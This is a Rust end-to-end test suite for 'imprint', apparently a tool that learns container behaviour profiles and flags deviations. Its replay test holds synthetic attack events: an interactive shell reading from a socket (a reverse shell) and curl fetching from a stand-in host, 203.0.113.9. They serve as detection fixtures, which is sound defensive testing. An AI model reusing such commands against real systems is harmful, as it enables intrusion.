//! The `imprint` binary end to end: every command, its exit codes, and bad input.

use std::path::{Path, PathBuf};
mod common;
use common::{assert_exit, imprint, text};

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("..")
}

fn demo(name: &str) -> PathBuf {
    repo().join("examples/demo").join(name)
}

const WEB: &str = "sha256:5b0f3a8c2d1e4f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8";
const SIDE: &str = "sha256:9c8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b";

fn learn_demo(dir: &Path) -> PathBuf {
    let out = imprint(&[&"learn", &"--events", &demo("events.jsonl"), &"-o", &dir]);
    assert_exit(&out, 0);
    dir.join(format!("{}.yaml", WEB.replace(':', "-")))
}

#[test]
fn learn_writes_one_profile_per_image_digest() {
    let dir = tempfile::tempdir().unwrap();
    let web = learn_demo(dir.path());
    let mut names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(
        names,
        [
            format!("{}.yaml", WEB.replace(':', "-")),
            format!("{}.yaml", SIDE.replace(':', "-"))
        ]
    );
    let profile =
        imprint_schema::parse_profile(&std::fs::read(&web).unwrap()).expect("valid profile");
    assert_eq!(profile.image.digest, WEB);
    assert_eq!(
        profile.learning.completeness,
        imprint_schema::Completeness::Complete
    );
    assert_eq!(profile.learning.observed_containers, 2);
    let opens: Vec<&str> = profile.opens.iter().map(|o| o.path.as_str()).collect();
    assert!(opens.contains(&"/proc/*/stat"), "{opens:?}");
    assert!(opens.contains(&"/tmp/*"), "{opens:?}");
    assert!(profile.execs.iter().any(|e| e.path == "/usr/bin/gzip"
        && e.args.as_deref()
            == Some(&["-9".to_string(), "/var/log/shop/access.log".to_string()][..])));
    assert!(profile.dns_names().contains("payments.example.com"));
    // The busy client port collapsed to "any peer".
    assert!(
        profile
            .network
            .ingress
            .iter()
            .any(|p| p.cidr.is_none() && p.port == Some(8080))
    );

    let side = dir.path().join(format!("{}.yaml", SIDE.replace(':', "-")));
    let side = imprint_schema::parse_profile(&std::fs::read(side).unwrap()).unwrap();
    assert_eq!(
        side.learning.completeness,
        imprint_schema::Completeness::Partial
    );
}

#[test]
fn learn_filters_by_image_digest_and_is_deterministic() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    for dir in [a.path(), b.path()] {
        let out = imprint(&[
            &"learn",
            &"--events",
            &demo("events.jsonl"),
            &"--image-digest",
            &SIDE,
            &"-o",
            &dir,
            &"--format",
            &"json",
        ]);
        assert_exit(&out, 0);
    }
    let name = format!("{}.json", SIDE.replace(':', "-"));
    assert_eq!(std::fs::read_dir(a.path()).unwrap().count(), 1);
    assert_eq!(
        std::fs::read(a.path().join(&name)).unwrap(),
        std::fs::read(b.path().join(&name)).unwrap()
    );
    let out = imprint(&[
        &"learn",
        &"--events",
        &demo("events.jsonl"),
        &"--image-digest",
        &format!("sha256:{}", "0".repeat(64)),
        &"-o",
        &a.path(),
    ]);
    assert_exit(&out, 1);
    assert!(
        text(&out.stderr).contains("no events for image sha256:000"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn learn_reports_the_line_of_a_bad_event_and_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("events.jsonl");
    let good = std::fs::read_to_string(demo("events.jsonl")).unwrap();
    let mut lines: Vec<&str> = good.lines().take(20).collect();
    lines.push(r#"{"time":"2026-11-18T11:06:40Z","containerId":"c","imageDigest":"sha256:aa","type":"open","path":"/x","flags":7}"#);
    std::fs::write(&events, lines.join("\n")).unwrap();
    let out_dir = dir.path().join("out");
    let out = imprint(&[&"learn", &"--events", &events, &"-o", &out_dir]);
    assert_exit(&out, 1);
    let err = text(&out.stderr);
    assert!(err.contains("events.jsonl: line 21, column"), "{err}");
    assert!(!out_dir.exists(), "nothing is written on error");

    let out = imprint(&[
        &"learn",
        &"--events",
        &events,
        &"-o",
        &out_dir,
        &"--skip-invalid",
    ]);
    assert_exit(&out, 0);
    assert!(
        text(&out.stderr).contains("1 invalid lines skipped"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn learn_refuses_a_huge_line_without_reading_it_all() {
    let dir = tempfile::tempdir().unwrap();
    let events = dir.path().join("huge.jsonl");
    // A sparse 1 GiB file: one "line" of NUL bytes.
    std::fs::File::create(&events)
        .unwrap()
        .set_len(1 << 30)
        .unwrap();
    let out = imprint(&[&"learn", &"--events", &events, &"-o", &dir.path().join("o")]);
    assert_exit(&out, 1);
    assert!(
        text(&out.stderr).contains("line 1: longer than 1048576 bytes"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn learn_reports_missing_files_as_io_errors() {
    let dir = tempfile::tempdir().unwrap();
    let out = imprint(&[
        &"learn",
        &"--events",
        &dir.path().join("absent.jsonl"),
        &"-o",
        &dir.path(),
    ]);
    assert_exit(&out, 2);
    assert!(
        text(&out.stderr).contains("cannot open"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn validate_exit_codes_and_messages() {
    let dir = tempfile::tempdir().unwrap();
    let web = learn_demo(dir.path());
    let out = imprint(&[&"validate", &web]);
    assert_exit(&out, 0);
    assert!(text(&out.stdout).ends_with(": valid\n"));

    let bad = dir.path().join("bad.yaml");
    let content = std::fs::read_to_string(&web)
        .unwrap()
        .replace("/proc/*/stat", "/proc/*.stat")
        .replace("NET_BIND_SERVICE", "CAP_NET_BIND_SERVICE");
    std::fs::write(&bad, content).unwrap();
    let out = imprint(&[&"validate", &web, &bad, &"--output", &"json"]);
    assert_exit(&out, 1);
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report[0]["valid"], true);
    assert_eq!(report[1]["valid"], false);
    let problems: Vec<String> = serde_json::from_value(report[1]["problems"].clone()).unwrap();
    assert!(
        problems
            .iter()
            .any(|p| p.starts_with("opens[") && p.contains("/proc/*.stat")),
        "{problems:?}"
    );
    assert!(
        problems.iter().any(|p| p.starts_with("capabilities[0]")),
        "{problems:?}"
    );
}

#[test]
fn validate_bad_documents() {
    let dir = tempfile::tempdir().unwrap();
    let web = learn_demo(dir.path());
    let good = std::fs::read(&web).unwrap();
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("truncated.json", br#"{"apiVersion":"imprint.dev/v1","kind":"Profile","image":{"#.to_vec(), "EOF"),
        ("wrongtype.json", br#"{"apiVersion":"imprint.dev/v1","kind":"Profile","image":{"digest":7},"learning":{"completeness":"partial"}}"#.to_vec(), "image.digest"),
        ("v2.yaml", text(&good).replace("imprint.dev/v1", "imprint.dev/v2").into_bytes(), "unsupported \"imprint.dev/v2\""),
        ("utf8.yaml", [&good[..40], &[0xC3, 0x28][..], &good[40..]].concat(), "invalid UTF-8"),
    ];
    for (name, bytes, needle) in cases {
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        let out = imprint(&[&"validate", &path]);
        assert_exit(&out, 1);
        assert!(
            text(&out.stdout).contains(needle),
            "{name}: {}",
            text(&out.stdout)
        );
    }
    // 1 GiB (sparse): refused by size before reading.
    let huge = dir.path().join("huge.yaml");
    std::fs::File::create(&huge)
        .unwrap()
        .set_len(1 << 30)
        .unwrap();
    let out = imprint(&[&"validate", &huge]);
    assert_exit(&out, 1);
    assert!(
        text(&out.stdout).contains("more than the limit of 16777216 bytes"),
        "{}",
        text(&out.stdout)
    );
    // Missing file: I/O error.
    let out = imprint(&[&"validate", &dir.path().join("absent.yaml")]);
    assert_exit(&out, 2);
}

#[test]
fn diff_formats_and_exit_codes() {
    let dir = tempfile::tempdir().unwrap();
    let new = learn_demo(dir.path());
    let old_dir = dir.path().join("old");
    let out = imprint(&[
        &"learn",
        &"--events",
        &demo("baseline-events.jsonl"),
        &"-o",
        &old_dir,
    ]);
    assert_exit(&out, 0);
    let old = std::fs::read_dir(&old_dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.to_string_lossy().contains("0e1d2c3b"))
        .unwrap();

    let out = imprint(&[&"diff", &new, &new]);
    assert_exit(&out, 0);
    assert!(out.stdout.is_empty());

    let out = imprint(&[&"diff", &old, &new]);
    assert_exit(&out, 1);
    let d = text(&out.stdout);
    assert!(
        d.contains("+      dns: payments.example.com")
            || d.contains("+  - dns: payments.example.com")
            || d.contains("payments.example.com"),
        "{d}"
    );
    assert!(
        d.lines()
            .any(|l| l.starts_with('+') && l.contains("payments.example.com")),
        "{d}"
    );

    let out = imprint(&[&"diff", &old, &new, &"--format", &"json"]);
    assert_exit(&out, 1);
    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(summary["metadataChanged"], true);
    let added = summary["changes"]["network.egress"]["added"]
        .as_array()
        .unwrap();
    assert!(
        added.iter().any(|p| p["dns"] == "payments.example.com"),
        "{added:?}"
    );

    // patch: diff --format patch, then apply it, gives the new profile back.
    let out = imprint(&[&"diff", &old, &new, &"--format", &"patch"]);
    assert_exit(&out, 1);
    let patch = dir.path().join("change.json");
    std::fs::write(&patch, &out.stdout).unwrap();
    let patched = dir.path().join("patched.yaml");
    let out = imprint(&[&"patch", &old, &patch, &"-o", &patched]);
    assert_exit(&out, 0);
    let out = imprint(&[&"diff", &new, &patched]);
    assert_exit(&out, 0);
}

#[test]
fn patch_refuses_bad_patches() {
    let dir = tempfile::tempdir().unwrap();
    let web = learn_demo(dir.path());
    let cases = [
        (
            r#"[{"op":"test","path":"/kind","value":"Other"}]"#,
            "patch operation 0 (test) failed",
        ),
        (
            r#"[{"op":"add","path":"/opens/-","value":{"path":"x","flags":[]}}]"#,
            "path must be absolute",
        ),
        (r#"{"op":"add"}"#, "not an RFC 6902 patch"),
    ];
    for (patch, needle) in cases {
        let p = dir.path().join("p.json");
        std::fs::write(&p, patch).unwrap();
        let out_file = dir.path().join("out.yaml");
        let out = imprint(&[&"patch", &web, &p, &"-o", &out_file]);
        assert_exit(&out, 1);
        assert!(text(&out.stderr).contains(needle), "{}", text(&out.stderr));
        assert!(!out_file.exists());
    }
}

#[test]
fn merge_combines_runs_of_one_image() {
    let dir = tempfile::tempdir().unwrap();
    let events = std::fs::read_to_string(demo("events.jsonl")).unwrap();
    let lines: Vec<&str> = events.lines().collect();
    let (first, second) = lines.split_at(lines.len() / 2);
    let mut files = Vec::new();
    for (i, part) in [first, second].iter().enumerate() {
        let f = dir.path().join(format!("part{i}.jsonl"));
        std::fs::write(&f, part.join("\n")).unwrap();
        let out = imprint(&[
            &"learn",
            &"--events",
            &f,
            &"--image-digest",
            &WEB,
            &"-o",
            &dir.path().join(format!("p{i}")),
        ]);
        assert_exit(&out, 0);
        files.push(
            dir.path()
                .join(format!("p{i}/{}.yaml", WEB.replace(':', "-"))),
        );
    }
    let merged = dir.path().join("merged.json");
    let out = imprint(&[&"merge", &files[0], &files[1], &"-o", &merged]);
    assert_exit(&out, 0);
    let m = imprint_schema::parse_profile(&std::fs::read(&merged).unwrap()).unwrap();
    let a = imprint_schema::parse_profile(&std::fs::read(&files[0]).unwrap()).unwrap();
    let b = imprint_schema::parse_profile(&std::fs::read(&files[1]).unwrap()).unwrap();
    assert_eq!(m, imprint_schema::merge(&a, &b).unwrap());
    assert!(
        std::fs::read(&merged).unwrap().starts_with(b"{"),
        "json by extension"
    );

    let other = dir.path().join("side");
    assert_exit(
        &imprint(&[
            &"learn",
            &"--events",
            &demo("events.jsonl"),
            &"--image-digest",
            &SIDE,
            &"-o",
            &other,
        ]),
        0,
    );
    let side = other.join(format!("{}.yaml", SIDE.replace(':', "-")));
    let out = imprint(&[
        &"merge",
        &files[0],
        &side,
        &"-o",
        &dir.path().join("x.yaml"),
    ]);
    assert_exit(&out, 1);
    assert!(
        text(&out.stderr).contains("image digests differ"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn export_seccomp_lists_the_syscalls() {
    let dir = tempfile::tempdir().unwrap();
    let web = learn_demo(dir.path());
    let out = imprint(&[&"export", &"seccomp", &web]);
    assert_exit(&out, 0);
    let s: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(s["defaultAction"], "SCMP_ACT_ERRNO");
    let names = s["syscalls"][0]["names"].as_array().unwrap();
    assert!(names.contains(&"accept4".into()) && names.contains(&"execve".into()));
    assert_eq!(s["syscalls"][0]["action"], "SCMP_ACT_ALLOW");
}

#[test]
fn digest_is_stable_across_formats() {
    let dir = tempfile::tempdir().unwrap();
    let web = learn_demo(dir.path());
    let json_dir = dir.path().join("json");
    assert_exit(
        &imprint(&[
            &"learn",
            &"--events",
            &demo("events.jsonl"),
            &"-o",
            &json_dir,
            &"--format",
            &"json",
        ]),
        0,
    );
    let web_json = json_dir.join(format!("{}.json", WEB.replace(':', "-")));
    let a = text(&imprint(&[&"digest", &web]).stdout);
    let b = text(&imprint(&[&"digest", &web_json]).stdout);
    assert_eq!(a.split_whitespace().next(), b.split_whitespace().next());
    assert!(a.starts_with("sha256:"));
}

#[test]
fn help_completions_schema_and_usage_errors() {
    for cmd in [
        vec!["--help"],
        vec!["learn", "--help"],
        vec!["validate", "--help"],
        vec!["diff", "--help"],
        vec!["patch", "--help"],
        vec!["merge", "--help"],
        vec!["import", "kubescape", "--help"],
        vec!["export", "seccomp", "--help"],
        vec!["completions", "--help"],
    ] {
        let args: Vec<&dyn AsRef<std::ffi::OsStr>> = cmd.iter().map(|s| s as _).collect();
        let out = imprint(&args);
        assert_exit(&out, 0);
        assert!(text(&out.stdout).contains("Usage:"), "{cmd:?}");
    }
    for shell in ["bash", "zsh", "fish"] {
        let out = imprint(&[&"completions", &shell]);
        assert_exit(&out, 0);
        assert!(text(&out.stdout).contains("imprint"));
    }
    let out = imprint(&[&"schema", &"profile"]);
    assert_exit(&out, 0);
    let published = std::fs::read_to_string(repo().join("schema/profile.v1.schema.json")).unwrap();
    assert_eq!(text(&out.stdout), published);
    // Usage errors exit 2.
    assert_exit(&imprint(&[&"frobnicate"]), 2);
    assert_exit(&imprint(&[&"learn", &"-o", &"x"]), 2);
    assert_exit(
        &imprint(&[
            &"learn",
            &"--events",
            &"x",
            &"-o",
            &"y",
            &"--learning-period",
            &"soon",
        ]),
        2,
    );
    assert_exit(&imprint(&[&"merge", &"only-one.yaml", &"-o", &"x"]), 2);
}

fn kubescape(rel: &str) -> Option<PathBuf> {
    let p = repo().join("../shared/corpora/kubescape").join(rel);
    if p.exists() {
        Some(p)
    } else {
        imprint_test_support::skip(format!(
            "{} absent (../shared is not beside the checkout)",
            p.display()
        ));
        None
    }
}

#[test]
fn import_kubescape_real_profiles() {
    let Some(nginx) =
        kubescape("node-agent/pre-containerprofile/mocks/testdata/nginx_applicationprofiles.json")
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let out_file = dir.path().join("nginx.yaml");
    let out = imprint(&[&"import", &"kubescape", &nginx, &"-o", &out_file]);
    assert_exit(&out, 1);
    assert!(
        text(&out.stderr).contains("--image-digest"),
        "{}",
        text(&out.stderr)
    );
    let digest = format!("sha256:{}", "d".repeat(64));
    let out = imprint(&[
        &"import",
        &"kubescape",
        &nginx,
        &"--image-digest",
        &digest,
        &"-o",
        &out_file,
    ]);
    assert_exit(&out, 0);
    let p = imprint_schema::parse_profile(&std::fs::read(&out_file).unwrap()).unwrap();
    assert!(!p.syscalls.is_empty());
    assert!(
        p.execs.iter().any(|e| e.path.contains("nginx")),
        "{:?}",
        p.execs
    );
    assert_exit(&imprint(&[&"validate", &out_file]), 0);
    // And it exports to seccomp.
    assert_exit(&imprint(&[&"export", &"seccomp", &out_file]), 0);

    // A ContainerProfile without an imageID needs --image-digest.
    let Some(cp) =
        kubescape("node-agent/head/tests/resources/network-wildcards/10-dns-leading-wildcard.yaml")
    else {
        return;
    };
    let out = imprint(&[
        &"import",
        &"kubescape",
        &cp,
        &"-o",
        &dir.path().join("cp.yaml"),
    ]);
    if out.status.code() == Some(1) {
        assert!(
            text(&out.stderr).contains("digest"),
            "{}",
            text(&out.stderr)
        );
        let digest = format!("sha256:{}", "c".repeat(64));
        let out = imprint(&[
            &"import",
            &"kubescape",
            &cp,
            &"--image-digest",
            &digest,
            &"-o",
            &dir.path().join("cp.yaml"),
        ]);
        assert_exit(&out, 0);
    } else {
        assert_exit(&out, 0);
    }
    let p =
        imprint_schema::parse_profile(&std::fs::read(dir.path().join("cp.yaml")).unwrap()).unwrap();
    assert!(
        p.network
            .egress
            .iter()
            .any(|e| e.dns.as_deref().is_some_and(|d| d.starts_with("*."))),
        "{:?}",
        p.network
    );
}

#[test]
fn import_kubescape_bad_input() {
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        (
            "v2.yaml",
            "apiVersion: spdx.softwarecomposition.kubescape.io/v2\nkind: ApplicationProfile\n",
            "v2",
        ),
        (
            "pod.yaml",
            "apiVersion: spdx.softwarecomposition.kubescape.io/v1beta1\nkind: Pod\n",
            "Pod",
        ),
        (
            "cut.json",
            "{\"apiVersion\":\"spdx.softwarecomposition.kubescape.io/v1beta1\",\"kind\":",
            "EOF",
        ),
    ];
    for (name, content, needle) in cases {
        let f = dir.path().join(name);
        std::fs::write(&f, content).unwrap();
        let out_file = dir.path().join("out.yaml");
        let out = imprint(&[&"import", &"kubescape", &f, &"-o", &out_file]);
        assert_exit(&out, 1);
        assert!(
            text(&out.stderr).contains(needle),
            "{name}: {}",
            text(&out.stderr)
        );
        assert!(!out_file.exists());
    }
}

#[test]
fn replay_is_quiet_on_learned_behaviour_and_reports_deviations_and_attacks() {
    let dir = tempfile::tempdir().unwrap();
    let web = learn_demo(dir.path());
    // What the profile was learned from replays clean.
    let out = imprint(&[
        &"replay",
        &"--profile",
        &web,
        &"--events",
        &demo("events.jsonl"),
    ]);
    assert_exit(&out, 0);
    assert!(text(&out.stderr).contains("0 alerts"));

    // An attacker in a web container: a shell whose stdin is a socket, then curl.
    let head = r#"{"time":"2026-11-18T12:00:00Z","containerId":"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa0","imageDigest":"sha256:5b0f3a8c2d1e4f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8","#;
    let attack = [
        format!(r#"{head}"pid":900,"type":"exec","path":"/bin/sh","argv":["sh","-i"],"parent":{{"pid":100}},"stdinSocket":true}}"#),
        format!(r#"{head}"pid":901,"type":"exec","path":"/usr/bin/curl","argv":["curl","http://203.0.113.9/x"],"parent":{{"pid":900}}}}"#),
        format!(r#"{head}"pid":901,"type":"exec","path":"/usr/bin/curl","argv":["curl","http://203.0.113.9/x"],"parent":{{"pid":900}}}}"#),
        format!(r#"{head}"pid":901,"type":"connect","address":"203.0.113.9","port":80,"protocol":"TCP"}}"#),
    ]
    .join("\n");
    let events = dir.path().join("attack.jsonl");
    std::fs::write(&events, attack).unwrap();
    let out = imprint(&[
        &"replay",
        &"--profile",
        &web,
        &"--events",
        &events,
        &"--output",
        &"json",
    ]);
    assert_exit(&out, 1);
    let lines: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let rules: Vec<&str> = lines.iter().filter_map(|l| l["rule"].as_str()).collect();
    assert_eq!(
        rules,
        vec![
            "anomaly.exec",
            "reverse-shell",
            "anomaly.exec",
            "anomaly.egress"
        ],
        "{}",
        text(&out.stdout)
    );
    // The repeated curl is counted, not sent again; all of it is one incident.
    let incidents: Vec<&serde_json::Value> = lines
        .iter()
        .filter(|l| l.get("timeline").is_some())
        .collect();
    assert_eq!(incidents.len(), 1);
    assert_eq!(incidents[0]["severity"], "critical");
    let counts: Vec<u64> = incidents[0]["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| o["count"].as_u64().unwrap())
        .collect();
    assert_eq!(counts, vec![1, 1, 2, 1]);

    // A user rule file can turn the shell rule off.
    let rules_file = dir.path().join("rules.yaml");
    std::fs::write(
        &rules_file,
        "apiVersion: imprint.dev/v1\nkind: RuleSet\ndisable: [reverse-shell]\n",
    )
    .unwrap();
    let out = imprint(&[
        &"replay",
        &"--profile",
        &web,
        &"--events",
        &events,
        &"--rules",
        &rules_file,
        &"--output",
        &"json",
    ]);
    assert!(!text(&out.stdout).contains("reverse-shell"));
    // A broken one is named.
    std::fs::write(
        &rules_file,
        "apiVersion: imprint.dev/v1\nkind: RuleSet\nrules: [{id: x}]\n",
    )
    .unwrap();
    let out = imprint(&[
        &"replay",
        &"--profile",
        &web,
        &"--events",
        &events,
        &"--rules",
        &rules_file,
    ]);
    assert_exit(&out, 1);
    assert!(
        text(&out.stderr).contains("rules.yaml"),
        "{}",
        text(&out.stderr)
    );
}

/// `docs/cli.md` is what `imprint reference` renders from the clap definition.
/// Regenerate after changing a command: `IMPRINT_BLESS=1 cargo test -p imprint-cli --test cli reference`.
#[test]
fn reference_in_docs_matches_the_commands() {
    let out = imprint(&[&"reference"]);
    assert_exit(&out, 0);
    let generated = text(&out.stdout);
    assert!(
        generated.contains("## `imprint key generate`"),
        "{generated}"
    );
    let path = repo().join("docs/cli.md");
    if std::env::var_os("IMPRINT_BLESS").is_some() {
        std::fs::write(&path, &generated).unwrap();
    }
    let published = std::fs::read_to_string(&path).expect("docs/cli.md");
    assert!(
        published == generated,
        "docs/cli.md is out of date with the commands; \
         run IMPRINT_BLESS=1 cargo test -p imprint-cli --test cli reference"
    );
}
